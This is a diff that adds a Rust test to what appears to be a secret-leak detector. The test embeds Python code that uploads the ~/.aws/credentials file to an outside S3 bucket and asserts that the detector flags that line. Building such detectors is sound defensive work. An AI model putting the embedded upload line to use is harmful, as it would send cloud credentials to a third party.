@@ -376,3 +376,13 @@ fn secrets_sent_in_a_dns_lookup_are_flows() {
         assert_eq!(flows(&[(*name, *code)]).len(), 1, "{name}");
     }
 }
+
+#[test]
+fn a_credential_file_uploaded_by_path_to_a_bucket_is_a_flow() {
+    let py = "import os, boto3\ns3 = boto3.client('s3')\n\
+              s3.upload_file(os.path.expanduser('~/.aws/credentials'), 'bucket-of-someone', 'c')\n\
+              s3.upload_file('report.csv', 'my-bucket', 'r.csv')\n";
+    let out = flows(&[("a.py", py)]);
+    assert_eq!(out.len(), 1, "{out:?}");
+    assert_eq!(out[0].finding.line, 3);
+}
